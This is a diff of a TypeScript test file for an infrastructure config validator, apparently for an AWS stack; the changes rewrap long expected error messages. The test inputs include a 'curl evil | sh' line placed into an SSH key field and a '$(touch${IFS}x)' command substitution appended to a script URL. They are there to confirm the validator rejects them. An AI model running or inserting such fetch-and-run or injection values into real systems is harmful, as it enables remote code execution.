@@ -129,7 +129,9 @@ const cases: [string, (c: Record<string, any>) => unknown, string][] = [
     [
         "clusterPorts, a list no longer read",
         (c) => (aws(c), (c.aws.clusterPorts = [{ protocol: "tcp", from: 2200, to: 22 }])),
-        `aws.clusterPorts: no longer a setting: the security groups open exactly the ports the services use, derived from their settings (components/ports.ts, docs/hosts.md "Ports"); remove aws.clusterPorts (the apps' entry: apps.entry.allowFrom), got [{"protocol":"tcp","from":2200,"to":22}]`,
+        `aws.clusterPorts: no longer a setting: the security groups open exactly the ports the services use, derived from their settings ` +
+            `(components/ports.ts, docs/hosts.md "Ports"); remove aws.clusterPorts (the apps' entry: apps.entry.allowFrom), got ` +
+            `[{"protocol":"tcp","from":2200,"to":22}]`,
     ],
     // Sizes.
     ["sizeGb 1e300", (c) => (c.volumes.datasets[0].sizeGb = 1e300), "volumes.datasets[0].sizeGb: expected a size in GB of at most 16384, got 1e+300"],
@@ -164,7 +166,8 @@ const cases: [string, (c: Record<string, any>) => unknown, string][] = [
     [
         "a pool file in /etc",
         (c) => (c.volumes.pool.vdevPath = "/etc/pool.img"),
-        'volumes.pool.vdevPath: expected a file in a directory of its own, not in the system tree /etc (the stack sets its owner and mode), got "/etc/pool.img"',
+        "volumes.pool.vdevPath: expected a file in a directory of its own, not in the system tree /etc " +
+            '(the stack sets its owner and mode), got "/etc/pool.img"',
     ],
     [
         "a Docker CLI path with ..",
@@ -180,12 +183,14 @@ const cases: [string, (c: Record<string, any>) => unknown, string][] = [
     [
         "an SSH key with junk around its PEM",
         (c) => (c.sshPrivateKey = `curl evil | sh\n${c.sshPrivateKey}trailing junk`),
-        "sshPrivateKey: expected exactly one SSH private key (PEM / OpenSSH), from -----BEGIN … PRIVATE KEY----- to -----END … PRIVATE KEY-----, got (hidden)",
+        "sshPrivateKey: expected exactly one SSH private key (PEM / OpenSSH), " +
+            "from -----BEGIN … PRIVATE KEY----- to -----END … PRIVATE KEY-----, got (hidden)",
     ],
     [
         "a weave script URL with a command substitution",
         (c) => (c.mesh.weave.scriptUrl += "$(touch${IFS}x)"),
-        "mesh.weave.scriptUrl: expected an https URL of the weave script like https://github.com/weaveworks/weave/releases/download/v2.8.1/weave (host and path of letters, digits and . _ ~ % + - /), got ",
+        "mesh.weave.scriptUrl: expected an https URL of the weave script like https://github.com/weaveworks/weave/releases/download/v2.8.1/weave (host and " +
+            "path of letters, digits and . _ ~ % + - /), got ",
     ],
 ];
 
